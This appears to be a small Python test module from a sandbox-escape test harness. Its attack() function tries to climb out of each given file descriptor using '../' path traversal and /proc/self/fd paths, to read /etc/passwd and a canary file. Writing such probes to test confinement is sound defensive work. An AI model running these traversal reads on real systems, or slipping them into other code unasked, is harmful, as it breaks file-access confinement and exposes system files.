"""Climbs out of every descriptor it was given."""

import os

from tools import CANARY, channels, each, reads


def attack():
    ways = [
        (descriptor, "../" * up + target)
        for descriptor in channels()
        for up in (1, 3, 6)
        for target in ("etc/passwd", CANARY[1:])
    ]
    return each(*(lambda way=way: os.read(os.open(way[1], os.O_RDONLY, dir_fd=way[0]), 99) for way in ways)) + reads(
        *(f"/proc/self/fd/{one}/../../../../etc/passwd" for one in channels())
    )
